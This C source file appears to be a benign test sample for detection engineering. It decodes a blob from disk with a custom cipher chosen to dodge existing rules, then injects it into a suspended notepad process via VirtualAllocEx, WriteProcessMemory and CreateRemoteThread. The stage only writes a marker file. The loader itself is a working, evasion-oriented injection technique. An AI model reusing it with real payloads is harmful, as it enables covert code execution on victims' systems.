/*
 * loader.c - generality suite: file -> a buffer on the stack -> custom cipher in place there ->
 * WriteProcessMemory into a suspended notepad -> CreateRemoteThread. Benign, emulator-only (see
 * ../../lineage-common/common.h).
 *
 * Reads C:\ProgramData\ChainreplayDemo\blob.dat into a buffer on the stack, decodes it there
 * with a cipher no lineage rule names (nibble swap + add), starts
 * C:\Windows\System32\notepad.exe suspended, allocates code and parameter memory in it, writes
 * the decoded buffer and a context block there and runs it with CreateRemoteThread. The stage
 * (../../lineage-common/payload.c) writes C:\Users\Public\lineage_inject_stack.txt.
 * Exit codes: 0 ok, 1 no marker, 2 file or process, 3 memory, 4 thread.
 */
#include "common.h"

void Entry(void)
{
    static struct sc_ctx ctx;
    static char cmd[] = "C:\\Windows\\System32\\notepad.exe";
    unsigned char buf[2048];
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    unsigned char *si_bytes = (unsigned char *)&si;
    void *code, *param;
    SIZE_T written;
    HANDLE thread, f;
    DWORD i, got = 0;
    unsigned char b;

    if (!marker_present())
        ExitProcess(1);
    f = CreateFileA("C:\\ProgramData\\ChainreplayDemo\\blob.dat", GENERIC_READ, FILE_SHARE_READ, 0,
                    OPEN_EXISTING, FILE_ATTRIBUTE_NORMAL, 0);
    if (f == INVALID_HANDLE_VALUE || !ReadFile(f, buf, sizeof(buf), &got, 0) || got < 64)
        ExitProcess(2);
    CloseHandle(f);
    for (i = 0; i < got; i++) {
        b = buf[i];
        buf[i] = (unsigned char)(((b << 4) | (b >> 4)) + 0x2b + i * 5);
    }
    for (i = 0; i < sizeof(si); i++)
        si_bytes[i] = 0;
    si.cb = sizeof(si);
    if (!CreateProcessA(0, cmd, 0, 0, FALSE, CREATE_SUSPENDED, 0, 0, &si, &pi))
        ExitProcess(2);
    code = VirtualAllocEx(pi.hProcess, 0, got, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    param = VirtualAllocEx(pi.hProcess, 0, sizeof(ctx), MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!code || !param)
        ExitProcess(3);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_inject_stack.txt", "decoded on the stack, injected\n");
    if (!WriteProcessMemory(pi.hProcess, code, buf, got, &written) ||
        !WriteProcessMemory(pi.hProcess, param, &ctx, sizeof(ctx), &written))
        ExitProcess(3);
    thread = CreateRemoteThread(pi.hProcess, 0, 0, (LPTHREAD_START_ROUTINE)code, param, 0, 0);
    if (!thread)
        ExitProcess(4);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
